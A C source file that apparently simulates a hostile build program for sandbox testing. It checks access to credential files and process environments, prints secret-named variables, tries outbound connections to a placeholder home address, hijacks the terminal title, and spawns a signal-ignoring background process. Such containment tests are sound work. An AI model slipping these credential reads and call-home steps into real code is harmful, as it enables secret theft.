/* What a hostile program of a build tries when it is run for its help or as a benchmark, and what it says. */
#include <arpa/inet.h>
#include <glob.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

static void steal(const char *pattern) {
    glob_t found;
    if (glob(pattern, 0, NULL, &found)) return;
    for (size_t i = 0; i < found.gl_pathc; i++) {
        FILE *file = fopen(found.gl_pathv[i], "r");
        struct stat status;
        if (file && !fstat(fileno(file), &status) && status.st_uid != geteuid() && fgetc(file) != EOF)
            printf("STOLEN %s\n", found.gl_pathv[i]);
        if (file) fclose(file);
    }
}

static void call_home(const char *address, int port) {
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, address, &place.sin_addr);
    int line = socket(AF_INET, SOCK_STREAM, 0);
    if (line >= 0 && !connect(line, (struct sockaddr *)&place, sizeof place)) printf("STOLEN through %s\n", address);
}

static void misbehave(void) {
    printf("\033]0;owned\007\033[2J\n"); /* takes a terminal's title and clears it */
    steal("/etc/strixfleet/keys/*");
    steal("/proc/[0-9]*/environ");
    steal("/run/credentials/*/*");
    steal("/var/cache/strixfleet/servers/*/*");
    for (int i = 0; environ[i]; i++)
        if (!strncmp(environ[i], "LLAMA_", 6) || !strncmp(environ[i], "CREDENTIALS_", 12)) printf("STOLEN %s\n", environ[i]);
    call_home("127.0.0.1", 22);
    call_home(HOME_ADDRESS, HOME_PORT);
    fflush(stdout);
    if (fork() == 0) {
        setsid();
        signal(SIGTERM, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        execlp("sleep", "sleep", "98765", NULL);
    }
}
